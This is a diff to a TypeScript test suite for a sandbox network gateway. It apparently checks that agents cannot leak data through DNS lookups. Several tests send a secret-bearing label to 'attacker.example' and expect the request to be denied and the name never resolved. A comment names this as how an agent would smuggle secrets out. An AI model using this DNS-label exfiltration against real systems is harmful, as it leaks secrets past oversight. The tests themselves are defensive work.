@@ -36,7 +36,10 @@ const NAMES: Record<string, string[]> = {
   'privok.test': ['10.255.255.1'],
   'revoke.test': ['127.0.0.1'],
 }
+/** Every name the gateway asked the resolver for (DNS leak tests). */
+const lookups: string[] = []
 const resolve = async (host: string): Promise<IpAddress[]> => {
+  lookups.push(host)
   const a = NAMES[host]
   if (!a) throw Object.assign(new Error(`ENOTFOUND ${host}`), { code: 'ENOTFOUND' })
   return a.map(x => parseIp(x)!)
@@ -670,5 +673,53 @@ describe('curl through a socat bridge (the production path in miniature)', () =>
     } finally {
       socat.kill()
     }
+  })
+})
+
+describe('DNS only for allowed names (issue 9 finding 8)', () => {
+  const secret = 'c2vjcmv0lxrva2vu' // what an agent would smuggle out as a DNS label (hosts are logged lower-case)
+  beforeAll(async () => {
+    makeSandbox('dnsleak')
+    setPolicy('dnsleak', `version: 1
+network_policies:
+  lan:
+    endpoints:
+      - { port: ${PORT}, allowed_ips: [10.77.0.0/16] }
+`)
+    await new Promise(r => setTimeout(r, 400)) // rescan picks the new sandbox up
+  })
+  const dnsSock = () => sandboxSocket(data, 'dnsleak')
+  const dnsAudit = () => auditText('dnsleak')
+
+  it('CONNECT to <secret>.attacker.example with a hostless allowed_ips endpoint: denied, logged, never resolved', async () => {
+    lookups.length = 0
+    const t = await tunnel(`${secret}.attacker.example:${PORT}`, dnsSock())
+    expect(t.status).toBe(403)
+    t.socket.destroy()
+    expect(lookups).toEqual([])
+    expect(dnsAudit()).toMatch(new RegExp(`NET:OPEN \\[MED\\] DENIED -> ${secret}\\.attacker\\.example:${PORT}`))
+  })
+
+  it('plain HTTP to the same kind of name: denied, never resolved', async () => {
+    lookups.length = 0
+    const r = await proxied({ url: `http://${secret}2.attacker.example:${PORT}/`, socketPath: dnsSock() })
+    expect(r.status).toBe(403)
+    expect(lookups).toEqual([])
+    expect(dnsAudit()).toMatch(new RegExp(`DENIED GET http://${secret}2\\.attacker\\.example:${PORT}/`))
+  })
+
+  it('a name no policy names is never resolved either (demo sandbox)', async () => {
+    lookups.length = 0
+    const t = await tunnel(`${secret}.not-in-policy.example:${PORT}`)
+    expect(t.status).toBe(403)
+    t.socket.destroy()
+    expect(lookups).toEqual([])
+  })
+
+  it('an allowed name is resolved (the lookup happens only after the host matched)', async () => {
+    lookups.length = 0
+    const r = await proxied({ url: `http://allowed.test:${PORT}/x` })
+    expect(r.status).toBe(200)
+    expect(lookups).toEqual(['allowed.test'])
   })
 })
